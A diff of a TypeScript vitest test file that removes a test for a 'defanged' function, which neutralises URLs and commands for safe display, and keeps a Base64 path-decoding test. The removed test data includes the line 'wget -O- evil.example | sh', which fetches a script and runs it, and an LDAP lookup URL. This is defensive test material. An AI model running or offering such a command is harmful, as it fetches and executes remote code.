@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { carriedBy, defanged } from './carried.ts'
+import { carriedBy } from './carried.ts'
 
 const base64Of = (text: string): string => Buffer.from(text).toString('base64')
 
@@ -29,14 +29,4 @@ test.each([
 test('no path carries nothing, and a long one is cut', () => {
   expect(carriedBy(null)).toEqual([])
   expect(carriedBy(`Base64/${base64Of('a'.repeat(2_900))}`)[0]).toHaveLength(2_000)
-})
-
-test.each([
-  ['http://evil.example/a.sh', 'hxxp://evil[.]example/a[.]sh'],
-  ['HTTPS://203.0.113.7:80', 'HxxPS://203[.]0[.]113[.]7:80'],
-  ['ldap://evil.example:1389/a', 'ldap[:]//evil[.]example:1389/a'],
-  ['wget -O- evil.example | sh', 'wget -O- evil[.]example | sh'],
-  ['done. Then', 'done. Then'],
-])('%j is told as %j', (text, expected) => {
-  expect(defanged(text)).toBe(expected)
 })
